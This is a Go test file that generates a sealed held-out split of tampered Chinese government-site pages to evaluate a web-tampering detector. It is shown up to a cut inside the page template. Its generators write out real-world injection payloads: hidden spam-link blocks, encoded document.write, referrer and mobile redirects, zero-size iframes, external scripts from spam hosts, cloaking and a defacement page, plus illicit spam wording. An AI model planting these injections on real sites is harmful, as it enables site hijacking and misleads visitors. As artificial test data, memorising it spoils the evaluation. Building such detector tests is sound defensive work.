package tamper

// The sixth sealed split: a measurement of the detector on pages nobody has
// run it on, built as a sample of REAL attacks. Every technique and every
// variant below is one that a public incident write-up, a practitioner's
// scanner or code found in the wild shows being used; the number of cases
// per technique follows how often those write-ups show it (CSS-hidden link
// blocks, document.write of a hidden block and search-engine referrer
// redirects dominate), and nothing was chosen to aim at or around the
// detector: the split was written WITHOUT reading the detector's code or
// docs/tamper.md, without reading the other splits' generators, and
// WITHOUT calling Check, Analyze or Learn on any of its pages.
// TestSealed6SplitWellFormed checks only that the split is what it claims
// to be (labels, counts, pages that parse, spam present in every tampered
// page and absent from every benign one); TestSealed6SplitHiddenInChromium
// (FENGHUO_TAMPER_BROWSER=1) checks in a real Chromium that the hidden
// payloads do not show; TestGeneratedCorpusSealed6 is the only test that
// runs the detector on it. The lead ran it once (the first run, after the
// round-5 class work): every label found, no false alarm; those counts are
// now its floors and it always runs. The Chromium check passed when
// the split was written (Chromium 156, 2026-12-07: 0 of 210 checked pages
// show their payload; the control page does). Its first run found three
// pages whose <p style="display:none"> wrapper held a list, which the HTML
// parser moves out of the <p>: such payloads now get a <div> (sealed6Wrap).
//
// Sources (searched in Chinese and English: 暗链 代码, 黑链 隐藏, 博彩暗链
// 政府网站, 快照劫持, JS劫持 跳转, 寄生虫, 网页篡改 应急响应, hidden spam
// links, conditional redirect, cloaking, hidden iframe):
//
//	[teaweb]   github.com/dengpang/teaweb internal/teaconfigs/agents/chrome_dp.go:
//	           a Chinese 暗链 monitor whose rules list the forms it meets:
//	           display:none, position:absolute with top/left/bottom/right,
//	           white text, font-size 0, <marquee> with a one-digit height or
//	           width, document.referrer + indexOf + location.href scripts,
//	           eval, &#NNN; references and \u / \x escapes.
//	[dbxf]     github.com/xingchenwl/cdn ads/cbcv/dbxf.js (dated 2022-12-02):
//	           an injected script in the wild: is_robot() (baiduspider,
//	           360spider, sogou, googlebot, bytespider …), a search-engine
//	           referrer regexp, is_mobile() by user agent,
//	           document.write('<ins style="display:none!important" …>'),
//	           document.write('<script async src="https://…/o.js">') from an
//	           outside host, base64 payloads run by new Function.
//	[codeprj]  www.codeprj.com/blog/25d2a51.html: the referrer regexp
//	           /\.(sogou|soso|baidu|google|…)(\.[a-z0-9\-]+){1,2}\//ig and
//	           window.location.href only for visitors from a search engine.
//	[hijackjs] a public GitHub file found by find_string (the index does not
//	           name its repository): the same referrer regexp, then
//	           document.writeln of a <script src> from a spam host and of
//	           "<div style=\"display:none\">".
//	[guardjs]  github.com/scscms/guardJs README.md (javascript劫持套路):
//	           document.write / document.writeln of script tags, innerHTML
//	           injection of links, images and frames.
//	[tencent]  cloud.tencent.com/document/product/301/118967: 恶意跳转 by an
//	           injected window.location.href that fires only "在特定时间和
//	           环境下"; .htaccess/web.config rules.
//	[sophos]   nakedsecurity.sophos.com/2007/08/06/winds-of-change/ and
//	           /2009/11/02/maliframen-winning-infection/: injected iframes
//	           (Mal/Iframe) on legitimate, government-registered sites.
//	[sucuri]   labs.sucuri.net/db/malware/malware.short_url:
//	           <iframe src="…" width="0" height="0" frameborder="0">;
//	           blog.sucuri.net/2020/02/pharma-hack.html: SEO spam is the most
//	           common infection (62 % of cleaned sites), hidden links.
//	[pconline] pcedu.pconline.com.cn/softnews/dongtai/0907/1704778.html:
//	           ESET, "iframe 框架挂马是网页挂马常用的技术".
//	[repvigil] www.repvigil.com/seo-spam-detection-protecting-your-site-from-malicious-content:
//	           hidden links "setting the font size to zero or matching the
//	           text color to the background".
//	[tamar]    blog.tamar.com/2008/07/kevin-smith-hit-by-hidden-link-spammers/:
//	           spam links hidden at the bottom of every post, visible with
//	           style sheets off.
//	[jacka]    benedictjacka.co.uk/2015/11/06/pharma-hack-after-action-report/:
//	           hidden links visible only to search engines (Google's cached
//	           copy), not to visitors.
//	[seoprof]  newsletter.seoprofiler.com/newsletter486.htm: hacked sites that
//	           serve spiders other content by user agent, IP or referrer.
//	[nyphp]    nyphp.org/pipermail/talk/2006-February/017479.html: a forum mod
//	           that cloaked by user agent and fed spiders backlinks with
//	           randomised anchor text.
//	[ossia]    github.com/ossia/score/issues/420: injected PHP that fetches
//	           spam for some user agents and generates fake pages.
//	[fgf]      github.com/FGF-College-Work/Forum/issues/95 and
//	           github.com/alexgenaud/Poetic-License/issues/2: injected script
//	           tags at the bottom that redirect now and then.
//	[mdigest]  marketingdigest.com/google-updates-webmaster-guidelinesfor-sneaky-redirects-and-hacked-content/amp:
//	           hacked-site redirects that depend on referrer, user agent or
//	           device; mobile users sent to spam domains.
//	[websense] securitylabs.websense.com/content/Alerts/3393.aspx and
//	           leverdigital.com/blog/google-to-20000-sites-you-may-have-been-hacked/:
//	           redirects only for visitors who come from search results.
//	[kongyue]  www.kongyuezhongding.com/news/show-15656.html: 劫持 by
//	           third-party 外链JS; thun888/myblog source/_posts/记一次排查js文件后门.md:
//	           a CDN script that served a backdoor.
//	[shaoxing] www.pasxw.com/index.asp?bh=20206191259502226: 绍兴 网警, 博彩
//	           暗链 on company sites (18 gambling, 3 porn).
//	[zombie]   www2.tvboxnow.com/thread-3289998-1-566.html: "超过90%的网站存在
//	           暗链" in 600 county sites; 暗链 to private game servers and porn.
//	[ningqiang] uudp.com.tw/forum.php?goto=lastpost&mod=redirect&tid=658: a county
//	           transport bureau's nav bar showing "真人真钱", "网上娱乐城".
//	[kuaizhao] www.hmail163.com/content/?11800.html: 百度快照 shows content
//	           the site does not (快照劫持), 黑链, "Hacked by" defacements
//	           (www.0573cn.cn/post/27759.html).
//	[163]      m.163.com/dy/article/KL3H81FV0556DLY2.html: 暗链 "搜索引擎能抓取
//	           但用户看不到"; public-sector friendly links.
//
// Techniques (cases per site; the sources that show each):
//
//	display-none-block ×5 — <div|span|p style="display:none"> around the
//	    links, spelled with and without spaces, upper case, !important, a
//	    class rule in a <style>, nested in a harmless wrapper [teaweb,
//	    tamar, sucuri, hijackjs, dbxf];
//	offscreen-absolute ×5 — position:absolute with top/left -999 … -9999px,
//	    inline or by class, and one fixed to a negative top [teaweb, tamar];
//	docwrite-hidden-block ×4 — document.write/writeln of a display:none or
//	    off-screen block, one string or piece by piece, escaped quotes,
//	    inside a stat-code lookalike [hijackjs, guardjs, dbxf];
//	tiny-font ×3 — font-size:0 / 0px / 0pt, and 1px text in white
//	    [teaweb, repvigil];
//	referrer-redirect ×3 — search-engine referrer regexp or indexOf, then
//	    location.href / top.location / location.replace, minified or not
//	    [codeprj, teaweb, websense, tencent, mdigest];
//	cloak-spider-links ×2 — the server gives spiders a copy with the links
//	    and visitors a clean one [jacka, seoprof, nyphp, ossia];
//	marquee-tiny ×2 — <marquee> with height/width 0 or 1 and a huge
//	    scrollamount [teaweb];
//	visibility-hidden ×2 — visibility:hidden blocks [teaweb's family of
//	    CSS rules, sucuri];
//	colour-match ×2 — links coloured #fff/white on the white page
//	    [teaweb, repvigil];
//	js-spider-write ×2 — document.write of the links only when
//	    navigator.userAgent names a spider [dbxf is_robot, nyphp];
//	encoded-write ×1 — the block written from \uXXXX escapes or from base64
//	    (atob) [teaweb \u rule, dbxf base64];
//	hidden-iframe ×2 — zero-size, frameborder=0 or display:none frames
//	    loading the spam host [sucuri, sophos, pconline];
//	external-script ×2 — a <script src> from the spam host, or one written
//	    by document.writeln [hijackjs, dbxf, kongyue];
//	mobile-redirect ×1 — only phones are sent away [dbxf is_mobile, mdigest];
//	cloak-snapshot-title ×1 — spiders get a spam <title>, keywords and
//	    description (快照劫持) [kuaizhao, seoprof];
//	visible-nav-spam ×1 — gambling items added to the visible nav [ningqiang];
//	defacement ×1 — the page replaced by a "hacked by" page [kuaizhao].
//
// The first six (22 of 39 cases per site, 56 %) are the forms every write-up
// shows; the marquee, visibility, colour and hidden-frame forms are in the
// common list as well, the rest are spread. Payloads rotate between spam
// links (hidden_link + illicit_content), neutral-anchor links sold like
// Sape links (hidden_link only) and hidden spam text (illicit_content
// only), with 27, 32 or 36 links (injected blocks are long), schemes http/https/protocol-relative,
// quoted and unquoted attributes, separators and list markup.
//
// Sites: six kinds of template no other split has — a county CDC's
// vaccination clinic (vaccine stock and clinic hours change daily), a city
// blood centre (stock by blood group, mobile collection points), a city
// hydrology centre (water levels by station, hourly), a district
// employment service (job-fair employers and posts), a civil-affairs
// marriage registry (appointment slots by date) and a 12345 hotline's case
// disclosure (cases, departments, replies). Each has navigation, columns,
// a footer with 备案号, 公安备案, 网站标识码 and public-sector friendly links.
//
// Benign changes (12 per site, all hide something or quote spam words):
// news only, hover drop-down menus, lazy tabs, a carousel, a list
// collapsed after five items, a consent drawer, a print-only block, a news
// item quoting fraud wording in visible text (the split's own spam words,
// no link), a hidden drop-down of public-sector friendly links, a
// desktop-hidden mobile menu, a back-to-top button shown on scroll and a
// language menu.
//
// Spam: new hosts (one an IP with a port, one upper case, one deep
// subdomain) and new wording in every category: 博彩, 彩票, 色情, 发票/假证,
// 私服/外挂, 网贷/套现, 毒品/枪支. TestSealed6SplitWellFormed checks none of
// them, and no site, is in another split.

import (
	"encoding/base64"
	"fmt"
	"math/rand"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
)

// sealed6Offers pair each spam wording with the host it advertises.
var sealed6Offers = []struct{ word, host string }{
	{"新濠天地真人娱乐", "www.xhtd-yule8.com"},
	{"真人荷官在线发牌", "www.xhtd-yule8.com"},
	{"篮球滚球投注返水", "hg8868a.vip"},
	{"幸运28预测", "CP9911.NET"},
	{"快乐十分稳赚计划", "CP9911.NET"},
	{"成人直播福利破解版", "www.sq-av69.cc"},
	{"欧美成人影院免费看", "www.sq-av69.cc"},
	{"全国各地发票代开", "fp-daikai.top"},
	{"毕业证学位证办理", "fp-daikai.top"},
	{"热血江湖私服新区", "47.243.118.56:8899"},
	{"和平精英透视外挂", "www.wg-tsgua.net"},
	{"无视征信网贷口子", "m.pos-tx666.cn"},
	{"花呗套现当天到账", "m.pos-tx666.cn"},
	{"麻古溜冰货到付款", "shop.qzdw88.xyz"},
	{"仿真枪气狗出售", "shop.qzdw88.xyz"},
}

var genSealed6 = func() genSplit {
	sp := genSplit{
		name: "sealed6",
		sites: []genSite{
			{"鹤鸣县疾病预防控制中心", "www.hmxcdc.org.cn", "中心", sealed6TmplVaccination},
			{"云阳市中心血站", "www.yyxz-blood.org.cn", "血站", sealed6TmplBloodStock},
			{"澧川市水文水资源勘测中心", "sw.lichuan-shi.gov.cn", "中心", sealed6TmplHydrology},
			{"东川区公共就业服务中心", "jy.dongchuanqu.gov.cn", "中心", sealed6TmplJobFair},
			{"北泽市民政局婚姻登记处", "hydj.beize.gov.cn", "登记处", sealed6TmplMarriage},
			{"柘城市12345政务服务便民热线", "rx12345.zhecheng-shi.gov.cn", "热线", sealed6TmplHotline},
		},
		neutral:    []string{"企业邮箱开通", "APP外包报价", "云主机特价", "关键词快速排名"},
		linkCounts: []int{27, 32, 36},
	}
	seen := map[string]bool{}
	for _, o := range sealed6Offers {
		sp.spam = append(sp.spam, o.word)
		if !seen[o.host] {
			seen[o.host] = true
			sp.hosts = append(sp.hosts, o.host)
		}
	}
	return sp
}()

// payload kinds of this split.
const (
	sealed6SpamLinks = iota
	sealed6NeutralLinks
	sealed6SpamText
)

// sealed6Payload is what a technique hides.
type sealed6Payload struct {
	kind  int
	html  string // the markup to hide
	hosts []string
	words []string
}

// sealed6Build makes a payload: n links (or the words of n offers as
// text), markup varied the way injected blocks are written.
func sealed6Build(r *rand.Rand, kind int) sealed6Payload {
	sp := genSealed6
	n := sp.linkCounts[r.Intn(len(sp.linkCounts))]
	p := sealed6Payload{kind: kind}
	off := r.Intn(len(sealed6Offers))
	for i := 0; i < n; i++ {
		o := sealed6Offers[(off+i)%len(sealed6Offers)]
		p.hosts = append(p.hosts, o.host)
		w := o.word
		if kind == sealed6NeutralLinks {
			w = sp.neutral[(off+i)%len(sp.neutral)]
		}
		p.words = append(p.words, w)
	}
	if kind == sealed6SpamText {
		tail := []string{"，微信同号，24小时在线", " 联系QQ：2875104436", "，首充送88元，秒到账", "——诚信经营 安全可靠"}[r.Intn(4)]
		p.html = "<p>" + strings.Join(p.words, " ") + tail + "</p>"
		return p
	}
	form := r.Intn(5)
	var links []string
	for i := range p.hosts {
		scheme := []string{"http://", "https://", "//", "http://"}[r.Intn(4)]
		path := []string{"/", "/?id=" + strconv.Itoa(1000+r.Intn(9000)), "/zt/index.html", ""}[r.Intn(4)]
		u := scheme + p.hosts[i] + path
		switch form {
		case 0:
			links = append(links, fmt.Sprintf(`<a href="%s" target="_blank">%s</a>`, u, p.words[i]))
		case 1:
			links = append(links, fmt.Sprintf(`<a href='%s' title='%s'>%s</a>`, u, p.words[i], p.words[i]))
		case 2:
			links = append(links, fmt.Sprintf(`<a href=%s target=_blank>%s</a>`, u, p.words[i]))
		case 3:
			links = append(links, fmt.Sprintf(`<li><a href="%s">%s</a></li>`, u, p.words[i]))
		default:
			links = append(links, fmt.Sprintf(`<A HREF="%s">%s</A>`, u, p.words[i]))
		}
	}
	if form == 3 {
		p.html = "<ul>" + strings.Join(links, "") + "</ul>"
		return p
	}
	sep := []string{" ", "", "|", "<br>", "&nbsp;", "\n", "，"}[r.Intn(7)]
	p.html = strings.Join(links, sep)
	return p
}

// sealed6Ctx is what a technique generator gets: the payload, a variant
// number, randomness, a fresh id and the site.
type sealed6Ctx struct {
	r      *rand.Rand
	v      int
	p      sealed6Payload
	id     string
	site   genSite
	day    int
	spider string // cloaking: the spider copy (set by the technique)
	whole  string // defacement: the whole page (set by the technique)
}

// pick returns variant v of a list (variants rotate over sites).
func (c *sealed6Ctx) pick(list ...string) string { return list[c.v%len(list)] }

// at puts a block at one of the white body positions.
func (c *sealed6Ctx) at(html string) inject {
	switch c.r.Intn(3) {
	case 0:
		return inject{top: html}
	case 1:
		return inject{foot: html}
	}
	return inject{end: html}
}

// sealed6JSString quotes s for a JavaScript string literal in quote q,
// as the injected scripts do (backslash before the quote, </ split).
func sealed6JSString(s string, q byte) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, string(q), `\`+string(q))
	s = strings.ReplaceAll(s, "\n", `\n`)
	return strings.ReplaceAll(s, "</", `<\/`)
}

// sealed6Wrap wraps html in a tag with attributes; a <p> cannot hold a
// list or a paragraph (the parser would close it and leave the payload
// outside), so such payloads get the <div> the same injections use.
func sealed6Wrap(tag, attrs, html string) string {
	if tag == "p" && (strings.Contains(html, "<ul") || strings.Contains(html, "<p")) {
		tag = "div"
	}
	return "<" + tag + " " + attrs + ">" + html + "</" + tag + ">"
}

// technique classes: what a case is labelled with.
const (
	sealed6Hidden     = iota // by payload: hidden_link (+illicit_content) or illicit_content
	sealed6Redirect          // malicious_redirect
	sealed6Iframe            // hidden_iframe
	sealed6Script            // new_external_script
	sealed6Cloak             // by payload + cloaking
	sealed6CloakTitle        // illicit_content + cloaking
	sealed6Visible           // illicit_content (shown to visitors)
	sealed6Deface            // defacement
)

type sealed6Technique struct {
	name   string
	n      int // cases per site
	class  int
	text   bool // takes hidden spam text as well as links
	common bool // one of the forms every write-up shows
	gen    func(c *sealed6Ctx) inject
}

var sealed6Techniques = []sealed6Technique{
	{"display-none-block", 5, sealed6Hidden, true, true, func(c *sealed6Ctx) inject {
		switch c.v % 6 {
		case 0:
			return c.at(`<div style="display:none">` + c.p.html + `</div>`)
		case 1:
			return c.at(`<div style="display: none;">` + "\n" + c.p.html + "\n</div>")
		case 2:
			return c.at(`<span style="DISPLAY:NONE">` + c.p.html + `</span>`)
		case 3:
			return inject{head: `<style type="text/css">.` + c.id + `{display:none}</style>`}.plus(c.at(`<div class="` + c.id + `">` + c.p.html + `</div>`))
		case 4:
			return c.at(`<div class="clear"></div><div>` + sealed6Wrap("p", `style="display:none !important;"`, c.p.html) + `</div>`)
		}
		return c.at(`<div id="` + c.id + `" style="display:none;width:960px;margin:0 auto">` + c.p.html + `</div>`)
	}},
	{"offscreen-absolute", 5, sealed6Hidden, true, true, func(c *sealed6Ctx) inject {
		switch c.v % 6 {
		case 0:
			return c.at(`<div style="position:absolute;top:-999px;left:-999px">` + c.p.html + `</div>`)
		case 1:
			return c.at(`<div style="position: absolute; left: -9999px; top: -9999px;">` + c.p.html + `</div>`)
		case 2:
			return inject{head: `<style>#` + c.id + `{position:absolute;top:-1200px;left:-1200px;}</style>`}.plus(c.at(`<div id="` + c.id + `">` + c.p.html + `</div>`))
		case 3:
			return c.at(`<DIV style="POSITION:absolute;TOP:-3000px">` + c.p.html + `</DIV>`)
		case 4:
			return c.at(`<div style="position:fixed;top:-2000px;right:0">` + c.p.html + `</div>`)
		}
		return c.at(`<div style="position:absolute;left:-5000px;width:300px;overflow:hidden">` + c.p.html + `</div>`)
	}},
	{"docwrite-hidden-block", 4, sealed6Hidden, true, true, func(c *sealed6Ctx) inject {
		switch c.v % 5 {
		case 0:
			return c.at(`<script type="text/javascript">document.write('<div style="display:none">');document.write('` + sealed6JSString(c.p.html, '\'') + `');document.write('</div>');</script>`)
		case 1:
			return c.at("<script>\ndocument.writeln(\"<div style=\\\"position:absolute;top:-1000px;left:-1000px;\\\">\");\ndocument.writeln(\"" + sealed6JSString(c.p.html, '"') + "\");\ndocument.writeln(\"<\\/div>\");\n</script>")
		case 2:
			return c.at(`<script>document.write("<div style='display:none'>"+"` + sealed6JSString(c.p.html, '"') + `"+"</div>")</script>`)
		case 3:
			return inject{end: `<script type="text/javascript">var _hmt=_hmt||[];` + "\n" + `document.writeln("<div style=\"display:none\">");` + "\n" + `document.writeln("` + sealed6JSString(c.p.html, '"') + `");` + "\n" + `document.writeln("</div>");</script>`}
		}
		return c.at(`<script language="javascript">var s='<ins style="display:none!important" id="` + c.id + `">` + sealed6JSString(c.p.html, '\'') + `</ins>';document.write(s);</script>`)
	}},
	{"tiny-font", 3, sealed6Hidden, true, true, func(c *sealed6Ctx) inject {
		switch c.v % 4 {
		case 0:
			return c.at(`<div style="font-size:0">` + c.p.html + `</div>`)
		case 1:
			return c.at(sealed6Wrap("p", `style="font-size: 0px; line-height: 0"`, c.p.html))
		case 2:
			return c.at(`<div style="font-size:0pt;height:0">` + c.p.html + `</div>`)
		}
		html := strings.ReplaceAll(c.p.html, "<a ", `<a style="color:#ffffff" `)
		return inject{foot: `<div style="font-size:1px;color:#ffffff;line-height:1px">` + strings.ReplaceAll(html, "<A ", `<A style="color:#ffffff" `) + `</div>`}
	}},
	{"referrer-redirect", 3, sealed6Redirect, false, true, func(c *sealed6Ctx) inject {
		h := c.p.hosts[0]
		switch c.v % 3 {
		case 0:
			return c.at("<script type=\"text/javascript\">\nvar regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|biso|360)(\\.[a-z0-9\\-]+){1,2}\\//ig;\nvar where = document.referrer;\nif(regexp.test(where))\n{\nwindow.location.href='http://" + h + "/';\n}\n</script>")
		case 1:
			return c.at(`<script>var r=document.referrer.toLowerCase();if(r.indexOf("baidu")>0||r.indexOf("sogou")>0||r.indexOf("so.com")>0||r.indexOf("sm.cn")>0){top.location.href="https://` + h + `/?from=` + c.id + `";}</script>`)
		}
		return inject{end: `<script>!function(){var a=document.referrer,b=["baidu.com","sogou.com","so.com","bing.com","google."];for(var i=0;i<b.length;i++)if(a.indexOf(b[i])!=-1){setTimeout(function(){location.replace("//` + h + `/")},300);break}}();</script>`}
	}},
	{"cloak-spider-links", 2, sealed6Cloak, false, true, func(c *sealed6Ctx) inject {
		block := c.pick(
			`<div class="links">友情链接：`+c.p.html+`</div>`,
			`<div class="hot"><h3>热门搜索</h3>`+c.p.html+`</div>`,
			sealed6Wrap("p", `class="kw"`, c.p.html))
		if c.v%2 == 0 {
			c.spider = block
		} else {
			c.spider = `<div style="text-align:center">` + block + `</div>`
		}
		return inject{}
	}},
	{"marquee-tiny", 2, sealed6Hidden, true, false, func(c *sealed6Ctx) inject {
		switch c.v % 3 {
		case 0:
			return c.at(`<marquee height="1" width="1" scrollamount="3000" scrolldelay="20000">` + c.p.html + `</marquee>`)
		case 1:
			return c.at(`<marquee height=0 width=0 scrollamount=10000>` + c.p.html + `</marquee>`)
		}
		return c.at(`<MARQUEE HEIGHT="2" WIDTH="3" SCROLLAMOUNT="5000" SCROLLDELAY="100000">` + c.p.html + `</MARQUEE>`)
	}},
	{"visibility-hidden", 2, sealed6Hidden, true, false, func(c *sealed6Ctx) inject {
		switch c.v % 3 {
		case 0:
			return c.at(`<div style="visibility:hidden;height:0;overflow:hidden">` + c.p.html + `</div>`)
		case 1:
			return c.at(`<div style="visibility: hidden; position: absolute;">` + c.p.html + `</div>`)
		}
		return inject{head: `<style>.` + c.id + `{visibility:hidden;width:0;height:0}</style>`}.plus(c.at(`<span class="` + c.id + `">` + c.p.html + `</span>`))
	}},
	{"colour-match", 2, sealed6Hidden, true, false, func(c *sealed6Ctx) inject {
		col := c.pick("#fff", "#FFFFFF", "white", "rgb(255,255,255)")
		html := strings.ReplaceAll(c.p.html, "<a ", `<a style="color:`+col+`;text-decoration:none" `)
		html = strings.ReplaceAll(html, "<A ", `<A style="color:`+col+`;text-decoration:none" `)
		html = strings.ReplaceAll(html, "<li>", `<li style="list-style:none">`)
		return inject{foot: `<div style="color:` + col + `">` + html + `</div>`}
	}},
	{"js-spider-write", 2, sealed6Hidden, false, false, func(c *sealed6Ctx) inject {
		if c.v%2 == 0 {
			return c.at(`<script>var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("baiduspider")>-1||ua.indexOf("360spider")>-1||ua.indexOf("sogou")>-1||ua.indexOf("bytespider")>-1){document.write("` + sealed6JSString(c.p.html, '"') + `");}</script>`)
		}
		return c.at("<script type=\"text/javascript\">\nfunction is_robot(){var a=['baiduspider','yisouspider','360spider','sosospider','googlebot','bingbot','bytespider'],u=navigator.userAgent.toLowerCase();for(var i=0;i<a.length;i++){if(u.includes(a[i]))return true}return false}\nif(is_robot()){document.write('" + sealed6JSString(c.p.html, '\'') + "')}\n</script>")
	}},
	{"encoded-write", 1, sealed6Hidden, false, false, func(c *sealed6Ctx) inject {
		block := `<div style="display:none">` + c.p.html + `</div>`
		if c.v%2 == 0 {
			var b strings.Builder
			for _, u := range utf16.Encode([]rune(block)) {
				fmt.Fprintf(&b, `\u%04x`, u)
			}
			return c.at(`<script>document.write("` + b.String() + `");</script>`)
		}
		b64 := base64.StdEncoding.EncodeToString([]byte(block))
		return c.at(`<script>document.write(decodeURIComponent(escape(window.atob("` + b64 + `"))));</script>`)
	}},
	{"hidden-iframe", 2, sealed6Iframe, false, false, func(c *sealed6Ctx) inject {
		h := c.p.hosts[0]
		switch c.v % 4 {
		case 0:
			return c.at(`<iframe src="http://` + h + `/" width="0" height="0" frameborder="0"></iframe>`)
		case 1:
			return c.at(`<iframe src="http://` + h + `/index.html" style="display:none"></iframe>`)
		case 2:
			return c.at(`<iframe width=0 height=0 frameborder=0 scrolling=no src="https://` + h + `/"></iframe>`)
		}
		return c.at(`<iframe src="http://` + h + `/" width="1" height="1" style="visibility:hidden;border:0"></iframe>`)
	}},
	{"external-script", 2, sealed6Script, false, false, func(c *sealed6Ctx) inject {
		h := c.p.hosts[0]
		switch c.v % 3 {
		case 0:
			return c.at(`<script type="text/javascript" src="http://` + h + `/viewn.js"></script>`)
		case 1:
			return inject{end: `<script>document.writeln('<script type="text/javascript" src="http://` + h + `/tj.js"><\/script>');</script>`}
		}
		return inject{head: `<script async src="https://` + h + `/o.js"></script>`}
	}},
	{"mobile-redirect", 1, sealed6Redirect, false, false, func(c *sealed6Ctx) inject {
		h := c.p.hosts[0]
		if c.v%2 == 0 {
			return c.at(`<script>if(/android|iphone|ipod|ipad|windows phone|harmonyos/i.test(navigator.userAgent)){window.location.href="http://` + h + `/m/";}</script>`)
		}
		return inject{end: "<script type=\"text/javascript\">\nvar mobileArr=['android','iphone','symbianos','ipad','ipod','windows phone'],u=navigator.userAgent.toLowerCase();\nfor(var i=0;i<mobileArr.length;i++){if(u.indexOf(mobileArr[i])>-1){location.href='https://" + h + "/';break;}}\n</script>"}
	}},
	{"cloak-snapshot-title", 1, sealed6CloakTitle, false, false, func(c *sealed6Ctx) inject {
		w := c.p.words
		page := c.site.tmpl(c.site, c.day, inject{head: `<meta name="keywords" content="` + strings.Join(w, ",") + `"><meta name="description" content="` + w[0] + "，" + w[len(w)-1] + `，官方认证，安全可靠">`})
		c.spider = sealed6TitleRE.ReplaceAllString(page, "<title>"+w[0]+"_"+w[1%len(w)]+"-"+c.site.name+"</title>")
		return inject{}
	}},
	{"visible-nav-spam", 1, sealed6Visible, false, false, func(c *sealed6Ctx) inject {
		var items []string
		for i := 0; i < 2 && i < len(c.p.hosts); i++ {
			items = append(items, `<a href="http://`+c.p.hosts[i]+`/">`+c.p.words[i]+`</a>`)
		}
		return inject{top: `<div style="background:#0b5aa2;padding:6px 0;text-align:center"><a href="/" style="color:#fff">首页</a> <a href="/zxgg/" style="color:#fff">真人真钱</a> <a href="/wsylc/" style="color:#fff">网上娱乐城</a> ` + strings.ReplaceAll(strings.Join(items, " "), "<a ", `<a style="color:#fff" `) + `</div>`}
	}},
	{"defacement", 1, sealed6Deface, false, false, func(c *sealed6Ctx) inject {
		c.whole = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hacked By ` + c.pick("Sh3ll_Ghost", "黑客联盟-夜枭", "Anon1337") + `</title></head><body style="background:#000;color:#0f0;text-align:center;font-family:monospace"><h1>Hacked By ` + c.pick("Sh3ll_Ghost", "黑客联盟-夜枭", "Anon1337") + `</h1><p>` + c.site.name + `，你们的网站安全形同虚设！</p><p>Your security is just an illusion. Greetz: all my friends</p><marquee>We are everywhere</marquee></body></html>`
		return inject{}
	}},
}

var sealed6TitleRE = regexp.MustCompile(`<title>[^<]*</title>`)

// sealed6Kinds cycles the payload kinds of hidden-link cases: mostly
// spam links, some neutral anchors, some hidden text.
var sealed6Kinds = []int{sealed6SpamLinks, sealed6NeutralLinks, sealed6SpamLinks, sealed6SpamLinks, sealed6SpamText, sealed6SpamLinks, sealed6SpamLinks}

// sealed6TamperedCases builds every tampered case: each technique, n
// variants, on each site.
func sealed6TamperedCases() []genLabelled {
	var out []genLabelled
	for si, s := range genSealed6.sites {
		for ti, tq := range sealed6Techniques {
			for v := 0; v < tq.n; v++ {
				r := rand.New(rand.NewSource(int64(6_000_000 + si*10_000 + ti*100 + v)))
				kind := sealed6Kinds[(si*5+ti*3+v)%len(sealed6Kinds)]
				if kind == sealed6SpamText && !tq.text {
					kind = sealed6SpamLinks
				}
				if tq.class != sealed6Hidden && tq.class != sealed6Cloak {
					kind = sealed6SpamLinks
				}
				if tq.class == sealed6Cloak && kind == sealed6SpamText {
					kind = sealed6SpamLinks
				}
				day := 10 + (ti*3+v)%20
				c := &sealed6Ctx{r: r, v: v + si, p: sealed6Build(r, kind), id: fmt.Sprintf("c%x", r.Int63()%0xfffff), site: s, day: day}
				in := tq.gen(c)
				lc := genLabelled{site: s.host, name: fmt.Sprintf("%s#%d", tq.name, v+1), html: []byte(s.tmpl(s, day, in)), baselineFor: s}
				if c.whole != "" {
					lc.html = []byte(c.whole)
				}
				switch tq.class {
				case sealed6Hidden, sealed6Cloak:
					switch kind {
					case sealed6SpamLinks:
						lc.kinds = []string{KindHiddenLink, KindIllicitContent}
					case sealed6NeutralLinks:
						lc.kinds = []string{KindHiddenLink}
					default:
						lc.kinds = []string{KindIllicitContent}
					}
					if tq.class == sealed6Cloak {
						lc.spider = []byte(s.tmpl(s, day, inject{foot: c.spider}))
						lc.kinds = append(lc.kinds, KindCloaking)
					}
				case sealed6CloakTitle:
					lc.spider = []byte(c.spider)
					lc.kinds = []string{KindIllicitContent, KindCloaking}
				case sealed6Redirect:
					lc.kinds = []string{KindMaliciousRedirect}
				case sealed6Iframe:
					lc.kinds = []string{KindHiddenIframe}
				case sealed6Script:
					lc.kinds = []string{KindNewExternalScript}
				case sealed6Visible:
					lc.kinds = []string{KindIllicitContent}
				case sealed6Deface:
					lc.kinds = []string{KindDefacement}
				}
				out = append(out, lc)
			}
		}
	}
	return out
}

// sealed6Rand is a day's randomness for a site's changing content.
func sealed6Rand(s genSite, day int) *rand.Rand {
	h := int64(0)
	for _, c := range s.host {
		h = h*31 + int64(c)
	}
	return rand.New(rand.NewSource(h + int64(day)*7919))
}

// sealed6Date is the page's date for a day of the series.
func sealed6Date(day int) time.Time {
	return time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC).AddDate(0, 0, day)
}

// sealed6Notices returns n dated notice items that rotate with the day.
func sealed6Notices(r *rand.Rand, day, n int, topics []string) string {
	var b strings.Builder
	d := sealed6Date(day)
	for i := 0; i < n; i++ {
		t := topics[(day+i)%len(topics)]
		fmt.Fprintf(&b, `<li><a href="/tzgg/%s/%d.html" target="_blank">%s</a><span class="date">%s</span></li>`+"\n",
			d.Format("200601"), 3000+day*7+i, t, d.AddDate(0, 0, -i*2-r.Intn(2)).Format("2006-01-02"))
	}
	return b.String()
}

// sealed6Page is the frame the six templates share: head, the white body
// positions (top before the header, foot at the end of the main column,
// end after the footer) and a public-sector footer.
type sealed6Frame struct {
	title, css, header, nav, main string
	links                         [][2]string // friendly links: name, URL
	org, addr, phone, icp, police string
	siteCode                      string
}

func sealed6Page(in inject, f sealed6Frame) string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta http-equiv="X-UA-Compatible" content="IE=edge,chrome=1">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="SiteName" content="` + f.org + `">
<meta name="SiteDomain" content="">
<meta name="SiteIDCode" content="` + f.siteCode + `">
<title>` + f.title + `</title>
